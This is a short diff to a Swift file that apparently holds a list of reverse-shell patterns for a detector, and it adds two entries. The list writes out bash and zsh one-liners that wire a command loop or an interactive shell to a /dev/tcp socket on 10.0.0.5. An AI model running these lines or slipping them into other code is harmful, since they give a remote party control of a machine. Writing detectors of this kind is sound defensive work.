@@ -44,6 +44,8 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     "while read l; do $l; done <cmds >/dev/tcp/10.0.0.5/514",
     "exec 3<>/dev/tcp/10.0.0.5/80; echo \"GET $d HTTP/1.0\" >&3; while read l; do $l; done <&3",
     "exec >/dev/tcp/10.0.0.5/514 2>&1; exec bash -i",
+    "exec 3<>/dev/tcp/$HOST/$PORT; echo PING >&3; read -t 1 r <&3; [ \"$r\" = PONG ] && echo ok; eval \"$NEXT\"",
+    "f\"exec 3<>/dev/tcp/10.0.0.5/80; printf '{q}' >&3; IFS= read -r l <&3; set -- $l; printf '%s' \\\"$2\\\"\"; return \"bash -c \" + quote(s)",
     "zsh -c 'zmodload zsh/net/tcp; ztcp 10.0.0.5 22 && ztcp -c'; cat <&5",
     "bash --rcfile x run.sh >& /dev/tcp/10.0.0.5/514", "sh run.sh 0>/dev/null >/dev/tcp/10.0.0.5/514",
     "source /dev/stdin", "the words '/dev/tcp/'+host and \"/dev/tcp/\" in bash -i",
